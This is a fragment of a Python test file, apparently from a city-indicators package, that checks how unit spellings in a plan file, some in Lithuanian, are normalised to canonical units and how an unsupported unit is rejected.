    ("population", "gyventojai", "persons"), ("population", "Asm.", "persons"),
    ("crude_birth_rate", "promilės", "per 1000"), ("crude_birth_rate", "per 1,000", "per 1000"),
    ("ageing_index", "\"%\"", "per 100 aged 0-14"), ("ageing_index", "šimtui 0–14 m. gyv.", "per 100 aged 0-14"),
])
def test_a_plan_unit_is_read_by_the_catalogues_spellings_as_imported_tables_are(tmp_path, demo_dir, indicator, unit,
                                                                                 canon):
    # one rule for plans and imported tables (indicators.catalogue.normalise_unit and the entry's own spellings)
    from cityindicators.indicators.catalogue import get_indicator

    text = GOOD.replace("indicator: population", f"indicator: {indicator}").replace(
        "unit: asm.", f"unit: {unit}").replace("target_value: 20000", "target_value: 30")
    assert load_plan(write(tmp_path, text), data_dir=demo_dir).criteria[0].unit == canon
    assert get_indicator(indicator).unit_matches(unit.strip('"'))
    msg = errors_of(tmp_path, demo_dir, text.replace(f"unit: {unit}", "unit: EUR"))
    assert "criteria[1].unit" in msg and f"({canon!r})" in msg
